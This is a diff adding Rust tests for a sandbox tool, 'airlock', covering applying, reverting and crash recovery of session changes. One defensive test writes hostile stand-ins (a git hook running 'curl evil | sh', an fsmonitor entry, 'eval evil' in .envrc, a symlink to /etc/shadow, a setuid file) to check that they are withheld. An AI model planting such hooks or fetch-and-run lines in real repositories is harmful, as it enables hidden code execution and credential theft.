@@ -439,3 +439,350 @@ both_modes!(
         assert_eq!(listed.as_array().unwrap().len(), 1);
     }
 );
+
+/// Everything a test compares about a tree: every entry (directories too) with its type, mode,
+/// owner, size (files) and target (symlinks), and a listing of contents.
+fn exact(w: &World, dir: &Path) -> String {
+    let out = w
+        .command("find")
+        .arg(dir)
+        .args([
+            "-mindepth",
+            "1",
+            "-not",
+            "-type",
+            "d",
+            "-printf",
+            "%P %y %m %U:%G %s %l\\n",
+            "-o",
+            "-type",
+            "d",
+            "-printf",
+            "%P %y %m %U:%G %l\\n",
+        ])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+    let mut lines: Vec<&str> = std::str::from_utf8(&out.stdout).unwrap().lines().collect();
+    lines.sort();
+    format!("{}\n{}", lines.join("\n"), listing(w, None, dir))
+}
+
+fn apply(w: &World, id: &str, extra: &[&str]) -> Output {
+    w.airlock()
+        .args(["apply", id])
+        .args(extra)
+        .output()
+        .unwrap()
+}
+
+both_modes!(
+    apply_writes_the_sessions_tree_and_revert_restores_it_exactly,
+    |w: &World| {
+        populate(w);
+        let before = exact(w, &w.workspace);
+        let id = new_session(w, &[]);
+        ran(&run_in(w, &id, EVERY_KIND_OF_CHANGE));
+        let session_view = listing(w, Some(&id), &w.workspace);
+        // A dry run writes nothing.
+        let dry = apply(w, &id, &["--dry-run"]);
+        assert!(dry.status.success(), "{}", stderr(&dry));
+        assert!(stdout(&dry).contains("would apply"), "{}", stdout(&dry));
+        assert_eq!(exact(w, &w.workspace), before);
+
+        let out = apply(w, &id, &[]);
+        assert!(
+            out.status.success(),
+            "apply: {}\n{}",
+            stderr(&out),
+            stdout(&out)
+        );
+        assert_eq!(listing(w, None, &w.workspace), session_view);
+        // Applied: nothing left to show, and no more runs.
+        assert_eq!(stdout(&airlock(w, &["diff", &id, "--name-status"])), "");
+        refused(&run_in(w, &id, "true"), "was applied");
+        refused(&apply(w, &id, &[]), "already applied");
+
+        let out = airlock(w, &["revert", &id]);
+        assert!(
+            out.status.success(),
+            "revert: {}\n{}",
+            stderr(&out),
+            stdout(&out)
+        );
+        assert_eq!(
+            exact(w, &w.workspace),
+            before,
+            "revert must restore the tree exactly"
+        );
+        // The session is active again, its changes still in its layer.
+        assert_eq!(listing(w, Some(&id), &w.workspace), session_view);
+        refused(&airlock(w, &["revert", &id]), "no apply to revert");
+    }
+);
+
+both_modes!(
+    apply_leaves_host_changes_alone_unless_forced,
+    |w: &World| {
+        w.write(&w.workspace.join("both.txt"), "host v1\n");
+        w.write(&w.workspace.join("early.txt"), "host v1\n");
+        w.write(&w.workspace.join("untouched.txt"), "host v1\n");
+        let id = new_session(w, &[]);
+        // The host edits a file before the session first touches it: the session builds on that.
+        std::thread::sleep(std::time::Duration::from_millis(20));
+        w.write(&w.workspace.join("early.txt"), "host v2\n");
+        ran(&run_in(
+            w,
+            &id,
+            "echo session >> both.txt; echo session >> early.txt; echo new > added.txt",
+        ));
+        // After the session touched them, the host edits one file and creates another path.
+        w.write(&w.workspace.join("both.txt"), "host v2\n");
+        w.write(&w.workspace.join("added.txt"), "host made this\n");
+        w.write(&w.workspace.join("untouched.txt"), "host v2\n");
+
+        let out = apply(w, &id, &[]);
+        assert_eq!(
+            out.status.code(),
+            Some(1),
+            "{}\n{}",
+            stderr(&out),
+            stdout(&out)
+        );
+        let report = stdout(&out);
+        assert!(report.contains("CONFLICT    M both.txt"), "{report}");
+        // The host made a file where the session made one: a conflict too.
+        assert!(report.contains("CONFLICT    M added.txt"), "{report}");
+        assert!(report.contains("applied     M early.txt"), "{report}");
+        let read = |name: &str| std::fs::read_to_string(w.workspace.join(name)).unwrap();
+        assert_eq!(read("both.txt"), "host v2\n");
+        assert_eq!(read("added.txt"), "host made this\n");
+        assert_eq!(read("early.txt"), "host v2\nsession\n");
+        assert_eq!(read("untouched.txt"), "host v2\n");
+
+        let out = apply(w, &id, &["--force"]);
+        assert!(out.status.success(), "{}\n{}", stderr(&out), stdout(&out));
+        assert_eq!(read("both.txt"), "host v1\nsession\n");
+        assert_eq!(read("added.txt"), "new\n");
+        // revert gives back what the host had just before, and leaves alone what changed since.
+        w.write(&w.workspace.join("added.txt"), "host again\n");
+        let out = airlock(w, &["revert", &id]);
+        assert_eq!(
+            out.status.code(),
+            Some(1),
+            "{}\n{}",
+            stderr(&out),
+            stdout(&out)
+        );
+        assert!(
+            stdout(&out).contains("CONFLICT      added.txt"),
+            "{}",
+            stdout(&out)
+        );
+        assert_eq!(read("both.txt"), "host v2\n");
+        assert_eq!(read("added.txt"), "host again\n");
+    }
+);
+
+both_modes!(hazards_are_applied_only_when_named, |w: &World| {
+    let id = new_session(w, &[]);
+    ran(&run_in(
+        w,
+        &id,
+        r#"
+        set -e
+        mkdir -p .git/hooks .github/workflows .claude
+        echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
+        echo '[core] fsmonitor = evil' > .git/config
+        echo 'eval evil' > .envrc
+        echo 'on: push' > .github/workflows/ci.yml
+        echo '{}' > .claude/settings.json
+        echo ok > setuid && chmod 4755 setuid
+        ln -s /etc/shadow escape
+        echo fine > fine.txt
+        "#,
+    ));
+    let out = apply(w, &id, &[]);
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let report = stdout(&out);
+    for path in [
+        ".git/hooks/pre-commit",
+        ".git/config",
+        ".envrc",
+        ".github/workflows/ci.yml",
+        ".claude/settings.json",
+        "escape",
+    ] {
+        assert!(
+            report.contains(&format!("HAZARD      A {path}")),
+            "{path}: {report}"
+        );
+        assert!(
+            !w.workspace.join(path).exists() && w.workspace.join(path).symlink_metadata().is_err(),
+            "{path} was written"
+        );
+    }
+    assert!(report.contains("REFUSED     A setuid"), "{report}");
+    assert!(w.workspace.join("fine.txt").exists());
+
+    // Named, a hazard is written; setuid never is.
+    let out = apply(
+        w,
+        &id,
+        &[
+            "--allow-hazard",
+            ".git/hooks/pre-commit",
+            "--allow-hazard",
+            ".envrc",
+        ],
+    );
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    assert!(w.workspace.join(".git/hooks/pre-commit").exists());
+    assert!(w.workspace.join(".envrc").exists());
+    assert!(!w.workspace.join(".git/config").exists());
+    let out = apply(w, &id, &["--allow-hazards"]);
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    assert!(w.workspace.join(".git/config").exists());
+    assert!(w.workspace.join("escape").symlink_metadata().is_ok());
+    assert!(
+        !w.workspace.join("setuid").exists(),
+        "setuid files are never written"
+    );
+});
+
+#[test]
+fn applied_files_belong_to_the_workspace_owner() {
+    let Some(w) = World::new(Mode::Root) else {
+        return;
+    };
+    std::os::unix::fs::chown(&w.workspace, Some(1234), Some(1234)).unwrap();
+    std::fs::write(w.workspace.join("theirs.txt"), "x\n").unwrap();
+    std::os::unix::fs::chown(w.workspace.join("theirs.txt"), Some(4321), Some(4321)).unwrap();
+    let id = new_session(&w, &[]);
+    ran(&run_in(
+        &w,
+        &id,
+        "mkdir d && echo n > d/new && echo y >> theirs.txt",
+    ));
+    let out = apply(&w, &id, &[]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    use std::os::unix::fs::MetadataExt;
+    let owner = |p: &str| {
+        let m = std::fs::symlink_metadata(w.workspace.join(p)).unwrap();
+        (m.uid(), m.gid())
+    };
+    assert_eq!(owner("d"), (1234, 1234));
+    assert_eq!(owner("d/new"), (1234, 1234));
+    assert_eq!(
+        owner("theirs.txt"),
+        (4321, 4321),
+        "a replaced file keeps its owner"
+    );
+}
+
+/// One row of `listing` per path, keyed by the path.
+fn rows(listing: &str) -> std::collections::BTreeMap<String, String> {
+    listing
+        .lines()
+        .map(|l| (l.split(' ').next().unwrap().to_string(), l.to_string()))
+        .collect()
+}
+
+both_modes!(
+    an_apply_killed_at_any_point_is_consistent_and_recoverable,
+    |w: &World| {
+        populate(w);
+        let pristine = w.outside.join("pristine");
+        let out = w.outside(&format!(
+            "cp -a '{}' '{}'",
+            w.workspace.display(),
+            pristine.display()
+        ));
+        assert!(out.status.success(), "{}", stderr(&out));
+        let copy_back = |w: &World| {
+            let out = w.outside(&format!(
+                "find '{ws}' -mindepth 1 -delete && cp -a '{p}/.' '{ws}'",
+                ws = w.workspace.display(),
+                p = pristine.display()
+            ));
+            assert!(out.status.success(), "{}", stderr(&out));
+        };
+        let before = listing(w, None, &w.workspace);
+        let mut killed_at = 0;
+        loop {
+            let id = new_session(w, &[]);
+            ran(&run_in(w, &id, EVERY_KIND_OF_CHANGE));
+            let after = listing(w, Some(&id), &w.workspace);
+            let out = w
+                .airlock()
+                .args(["apply", &id])
+                .env("AIRLOCK_TEST_FAULT", format!("commit:{killed_at}"))
+                .output()
+                .unwrap();
+            if out.status.success() {
+                // Past the last op: the fault never fired; every point before it was tested.
+                assert!(killed_at > 20, "only {killed_at} ops?");
+                break;
+            }
+            assert_eq!(out.status.signal_or_none(), Some(9), "{}", stderr(&out));
+            // Every path is old or new, never a mix, and nothing else appeared but the temporary
+            // file of the op that was cut short (recovery removes it: checked below).
+            let (old, new, now) = (
+                rows(&before),
+                rows(&after),
+                rows(&listing(w, None, &w.workspace)),
+            );
+            for (path, row) in &now {
+                if path.contains("/.airlock-apply-") || path.starts_with("'.airlock-apply-") {
+                    continue;
+                }
+                assert!(
+                    old.get(path) == Some(row) || new.get(path) == Some(row),
+                    "killed after {killed_at} ops: {row} is neither old nor new"
+                );
+            }
+            // Runs wait for the apply to be finished or undone.
+            refused(&run_in(w, &id, "true"), "was interrupted");
+            if killed_at % 2 == 0 {
+                let out = apply(w, &id, &[]);
+                assert!(
+                    out.status.success(),
+                    "finish: {}\n{}",
+                    stderr(&out),
+                    stdout(&out)
+                );
+                assert_eq!(
+                    listing(w, None, &w.workspace),
+                    after,
+                    "killed after {killed_at}, finished"
+                );
+            } else {
+                let out = apply(w, &id, &["--rollback"]);
+                assert!(
+                    out.status.success(),
+                    "rollback: {}\n{}",
+                    stderr(&out),
+                    stdout(&out)
+                );
+                assert_eq!(
+                    listing(w, None, &w.workspace),
+                    before,
+                    "killed after {killed_at}, rolled back"
+                );
+            }
+            copy_back(w);
+            killed_at += 1;
+        }
+    }
+);
+
+/// The signal that ended a process, if one did.
+trait SignalOrNone {
+    fn signal_or_none(&self) -> Option<i32>;
+}
+
+impl SignalOrNone for std::process::ExitStatus {
+    fn signal_or_none(&self) -> Option<i32> {
+        std::os::unix::process::ExitStatusExt::signal(self)
+    }
+}
